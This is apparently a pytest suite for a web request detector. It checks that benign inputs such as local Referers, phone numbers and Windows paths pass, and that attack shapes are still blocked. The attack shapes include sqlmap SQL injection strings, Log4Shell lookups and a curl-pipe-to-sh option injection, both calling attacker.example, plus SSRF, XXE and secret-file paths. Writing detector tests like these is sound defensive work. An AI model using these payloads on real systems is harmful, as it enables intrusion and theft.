"""False alarms real clients caused, and the attack shapes next to them that must still be
refused."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlencode

import pytest

from dijk.detect.engine import Detector, phone_like
from dijk.detect.findings import RequestParts, Verdict

DETECTOR = Detector(paranoia=1)


def with_header(name: str, value: str) -> Verdict:
    return DETECTOR.inspect(RequestParts.from_target("GET", "/api/v1/accounts", [(name, value)]))


def search(value: str) -> Verdict:
    return DETECTOR.inspect(
        RequestParts.from_target("GET", "/api/v1/search?" + urlencode({"q": value}))
    )


def json_body(body: object) -> Verdict:
    return DETECTOR.inspect(
        RequestParts.from_target(
            "POST",
            "/api/v1/accounts",
            [("Content-Type", "application/json")],
            json.dumps(body).encode(),
        )
    )


# -- Referer and Origin name the client's own page ----------------------------------------


@pytest.mark.parametrize("header", ["Referer", "Origin"])
@pytest.mark.parametrize(
    "page",
    [
        "http://localhost:3000/",
        "http://localhost:3000",
        "http://10.1.2.3/app",
        "https://192.168.1.20:8443/admin/#/accounts",
        "http://127.0.0.1:5173/login?next=/dashboard",
        "http://intranet.corp/tools/",
        "http://[::1]:8080/",
    ],
)
def test_a_browser_page_on_a_local_or_private_host_is_not_ssrf(header: str, page: str) -> None:
    verdict = with_header(header, page)
    assert not verdict.findings, verdict.findings


@pytest.mark.parametrize(
    ("header", "value"),
    [
        # no browser page is on these: still findings wherever they appear
        ("Referer", "gopher://127.0.0.1:6379/_SLAVEOF"),
        ("Referer", "http://169.254.169.254/latest/meta-data/"),
        ("Origin", "http://0x7f000001/"),
        # a URL the server may well fetch: the usual SSRF check
        ("X-Callback-Url", "http://localhost:3000/"),
        ("X-Forwarded-Host", "http://10.1.2.3/app"),
    ],
)
def test_other_internal_urls_in_headers_are_still_ssrf(header: str, value: str) -> None:
    verdict = with_header(header, value)
    assert verdict.blocked
    assert "ssrf" in verdict.categories


def test_an_internal_url_in_a_body_field_is_still_ssrf() -> None:
    verdict = json_body({"webhook": "http://localhost:3000/"})
    assert verdict.blocked
    assert "ssrf" in verdict.categories


# -- phone numbers are not arithmetic SQL ----------------------------------------------


@pytest.mark.parametrize(
    "phone", ["+2253)-7) ", "12)-34)", "+31 (0)6-1234 5678", "(020) 555-0100", "06-12.34.56/78"]
)
def test_phone_numbers_pass(phone: str) -> None:
    assert phone_like(phone)
    assert not json_body({"phone": phone}).blocked
    assert not search(phone).blocked


@pytest.mark.parametrize(
    "payload", [" ( ( 1 ) )  --", "1) or (1=1", "12)-34) union select 1--", "1)) AND 2>1--"]
)
def test_numeric_breakouts_with_sql_are_still_refused(payload: str) -> None:
    assert not phone_like(payload)
    verdict = search(payload)
    assert verdict.blocked
    assert "sqli" in verdict.categories


# -- sqlmap payloads that used to pass ------------------------------------------------

SQLMAP_MISSES = [
    # MySQL error-based, in every quoting variant
    "Bakker AND GTID_SUBSET(CONCAT(0x7171787671,(SELECT (ELT(5021=5021,1))),0x71707a7871),5021)",
    'Bakker" AND GTID_SUBSET(CONCAT(0x7171787671,(SELECT (ELT(5021=5021,1))),0x71707a7871),5021)'
    "-- abcd",
    "Bakker AND GTID_SUBTRACT(CONCAT(0x71,(SELECT user())),1)",
    # boolean pairs ended by a control character
    "Bakker AND 1354=1354\x16",
    "Bakker AND 1354=1355\x16",
    "ORDER BY 1\x16",
    # time-based after a URL or two words
    "https://example.com/page AND 4812=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66)||CHR(67),5)",
    "Jan Bakker AND 4812=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66)||CHR(67),5)",
    "https://example.com/page AND 1234=LIKE(CHAR(65,66,67,68,69,70,71),"
    "UPPER(HEX(RANDOMBLOB(500000000/2))))",
    "Jan Bakker AND 1234=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))",
]


@pytest.mark.parametrize("payload", SQLMAP_MISSES)
def test_sqlmap_payloads_are_refused_in_query_and_json(payload: str) -> None:
    for verdict in (search(payload), json_body({"name": payload})):
        assert verdict.blocked, verdict.findings
        assert "sqli" in verdict.categories


@pytest.mark.parametrize(
    "text",
    [
        "GTID_SUBSET and GTID_SUBTRACT compare replication sets",
        "We use dbms_pipe for messaging between sessions",
        "randomblob gives random bytes in SQLite",
        "Bakker and 1354 others\x16",
        "Order 1354 = paid\x1f",
        "Room 12\x07",
    ],
)
def test_look_alikes_of_the_sqlmap_payloads_pass(text: str) -> None:
    assert not search(text).blocked
    assert not json_body({"note": text}).blocked


# -- attack classes that used to pass -------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        "--upload-pack=touch /tmp/pwned",
        "origin --receive-pack=id",
        "-c core.sshCommand=id",
        "--checkpoint-action=exec=sh shell.sh",
        "-oProxyCommand=curl attacker.example|sh",
        "--use-compress-program=sh -c id",
    ],
)
def test_option_injection_into_a_tool_is_refused(payload: str) -> None:
    verdict = search(payload)
    assert verdict.blocked
    assert "cmdi" in verdict.categories


@pytest.mark.parametrize(
    "text",
    ["--verbose", "--output=json", "use --exec mode in the docs", "-c 4", "git clone --depth=1"],
)
def test_ordinary_options_pass(text: str) -> None:
    assert not search(text).blocked


@pytest.mark.parametrize(
    "header", ["If-None-Match", "Cache-Control", "Accept", "Accept-Encoding", "Range"]
)
@pytest.mark.parametrize(
    "lookup",
    ["${jndi:ldap://attacker.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"],
)
def test_log4j_lookups_in_any_standard_header_are_refused(header: str, lookup: str) -> None:
    verdict = with_header(header, lookup)
    assert verdict.blocked
    assert "log4shell" in verdict.categories


def test_standard_headers_of_a_browser_pass() -> None:
    headers = [
        ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
        ("Sec-Ch-Ua", '"Chromium";v="118", "Not=A?Brand";v="99"'),
        ("If-None-Match", 'W/"5e-abc"'),
        ("Cache-Control", "max-age=0"),
    ]
    request = RequestParts.from_target("GET", "/api/v1/accounts", headers)
    assert not DETECTOR.inspect(request).findings


@pytest.mark.parametrize(
    "body",
    [
        {"filter": {"name": "anne"}, "update": {"$set": {"role": "admin"}}},
        {"$rename": {"role": "old_role"}},
        {"$inc": {"balance": 1000000}},
        {"changes": [{"$push": {"roles": "admin"}}]},
    ],
)
def test_mongodb_update_operators_in_a_body_are_refused(body: object) -> None:
    verdict = json_body(body)
    assert verdict.blocked
    assert "nosql" in verdict.categories


@pytest.mark.parametrize(
    "patch",
    [
        [{"op": "add", "path": "/__proto__/admin", "value": True}],
        [{"op": "replace", "path": "/constructor/prototype/isAdmin", "value": True}],
        [{"op": "copy", "from": "/a", "path": "/__proto__"}],
    ],
)
def test_prototype_pollution_through_json_patch_paths_is_refused(patch: object) -> None:
    verdict = json_body(patch)
    assert verdict.blocked
    assert "prototype_pollution" in verdict.categories


def test_a_mangled_proto_key_is_refused() -> None:
    verdict = json_body({"__pro__proto__to__": {"admin": True}})
    assert verdict.blocked
    assert "prototype_pollution" in verdict.categories


def test_ordinary_json_patch_passes() -> None:
    patch = [{"op": "replace", "path": "/profile/name", "value": "Anne"}]
    assert not json_body(patch).blocked


SVG_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
)


def upload(content: bytes, filename: str, part_type: str) -> Verdict:
    body = (
        b'--b\r\nContent-Disposition: form-data; name="avatar"; filename="'
        + filename.encode()
        + b'"\r\nContent-Type: '
        + part_type.encode()
        + b"\r\n\r\n"
        + content
        + b"\r\n--b--\r\n"
    )
    request = RequestParts.from_target(
        "POST", "/api/v1/avatar", [("Content-Type", "multipart/form-data; boundary=b")], body
    )
    return DETECTOR.inspect(request)


@pytest.mark.parametrize(
    ("filename", "part_type"),
    [("a.svg", "image/svg+xml"), ("a.png", "image/png"), ("a.bin", "application/octet-stream")],
)
def test_xxe_in_an_svg_upload_is_refused_whatever_type_it_claims(
    filename: str, part_type: str
) -> None:
    verdict = upload(SVG_XXE, filename, part_type)
    assert verdict.blocked
    assert "xxe-doctype" in verdict.rule_ids


def test_an_html_upload_is_not_parsed_as_xml() -> None:
    html = b"<!DOCTYPE html><html><body><p>Hello</p></body></html>"
    verdict = upload(html, "page.html", "text/html")
    assert not {"xxe-doctype", "xxe-malformed"} & set(verdict.rule_ids)


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://127.0.0.1.sslip.io:8080/admin",
        "http://10-0-0-1.nip.io/",
        "http://app-192-168-1-10.sslip.io/",
        "http://7f000001.nip.io/",
        "http://7f000001.c0a80001.rbndr.us/",
        "http://app.localtest.me/",
        "http://lvh.me:8080/",
    ],
)
def test_wildcard_dns_names_of_internal_addresses_are_ssrf(url: str) -> None:
    verdict = json_body({"webhook": url})
    assert verdict.blocked
    assert "ssrf" in verdict.categories


@pytest.mark.parametrize(
    "url",
    [
        "http://1.2.3.4.nip.io/",
        "https://ec2-54-1-2-3.eu-west-1.compute.amazonaws.com/hook",
        "https://release-1-2-3.example.com/",
        "https://deadbeef.example.com/",
        "https://v10.0.0.1.example.com/",
    ],
)
def test_public_names_with_numbers_are_not_ssrf(url: str) -> None:
    assert not json_body({"webhook": url}).findings


# -- Windows paths ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "C:\\Users\\anne\\Documents\\report.docx",
        "D:\\new\\reports\\2025\\q3.xlsx",
        "C:\\Program Files\\Polder\\bin\\tool.exe",
        "\\\\fileserver\\teams\\notes.txt",
    ],
)
def test_windows_document_paths_pass(path: str) -> None:
    assert not search(path).blocked
    assert not json_body({"attachment": path}).blocked


@pytest.mark.parametrize(
    "probe",
    [
        "type C:\\Windows\\win.ini",
        "& type c:\\boot.ini",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "..\\..\\windows\\win.ini",
        "x%0d%0aSet-Cookie: session=1",
    ],
)
def test_windows_file_probes_and_real_line_breaks_are_still_refused(probe: str) -> None:
    assert search(probe).blocked


# -- OAuth redirect URIs ---------------------------------------------------------------


@pytest.mark.parametrize(
    "verdict_of",
    [
        lambda url: search_param("redirect_uri", url),
        lambda url: json_body({"client_name": "cli", "redirect_uris": [url]}),
        lambda url: json_body({"post_logout_redirect_uri": url}),
    ],
)
@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:53682/callback", "http://localhost:8080/oauth2/callback"]
)
def test_loopback_oauth_redirect_uris_are_not_ssrf(verdict_of: Any, url: str) -> None:
    assert not verdict_of(url).findings


@pytest.mark.parametrize(
    "verdict_of",
    [
        lambda url: search_param("callback_url", url),
        lambda url: json_body({"webhook": url}),
        lambda url: json_body({"redirect_uri": "gopher://127.0.0.1:6379/_x"}),
        lambda url: json_body({"redirect_uri": "http://169.254.169.254/latest/meta-data/"}),
    ],
)
def test_urls_the_server_fetches_are_still_ssrf(verdict_of: Any) -> None:
    verdict = verdict_of("http://127.0.0.1:8080/admin")
    assert verdict.blocked
    assert "ssrf" in verdict.categories


def search_param(name: str, value: str) -> Verdict:
    return DETECTOR.inspect(
        RequestParts.from_target("GET", "/oauth/authorize?" + urlencode({name: value}))
    )


# -- XML with the DOCTYPE a standard format carries --------------------------------------

PLIST = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict><key>CFBundleName</key><string>Polder</string></dict></plist>
"""


def xml_body(body: bytes) -> Verdict:
    return DETECTOR.inspect(
        RequestParts.from_target(
            "POST", "/api/v1/devices", [("Content-Type", "application/xml")], body
        )
    )


def test_an_apple_property_list_passes() -> None:
    assert not xml_body(PLIST).findings


@pytest.mark.parametrize(
    "body",
    [
        # the same identifiers with an internal subset, or an entity, or another system id
        PLIST.replace(b'.dtd">', b'.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        PLIST.replace(b"<plist", b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><plist'),
        PLIST.replace(b"http://www.apple.com/DTDs/", b"http://attacker.example/"),
        PLIST.replace(b"PUBLIC", b"SYSTEM"),
    ],
)
def test_any_other_doctype_is_still_refused(body: bytes) -> None:
    verdict = xml_body(body)
    assert verdict.blocked
    assert "xxe" in verdict.categories


def test_values_inside_a_property_list_are_inspected() -> None:
    body = PLIST.replace(
        b"<string>Polder</string>", b"<string>x' UNION SELECT password FROM users--</string>"
    )
    verdict = xml_body(body)
    assert verdict.blocked
    assert "sqli" in verdict.categories


@pytest.mark.parametrize(
    "path",
    [
        "/run/secrets/db_password",
        "/etc/ssl/private/server.key",
        "/etc/ssh/ssh_host_ed25519_key",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "/proc/self/environ",
    ],
)
def test_absolute_paths_to_secrets_in_file_fields_are_refused(path: str) -> None:
    verdict = json_body({"file": path})
    assert verdict.blocked
    assert "path_traversal" in verdict.categories


@pytest.mark.parametrize(
    "path", ["/usr/share/doc/readme.txt", "/home/anne/report.pdf", "/srv/run/secretsanta.txt"]
)
def test_ordinary_absolute_paths_pass(path: str) -> None:
    assert not json_body({"file": path}).blocked
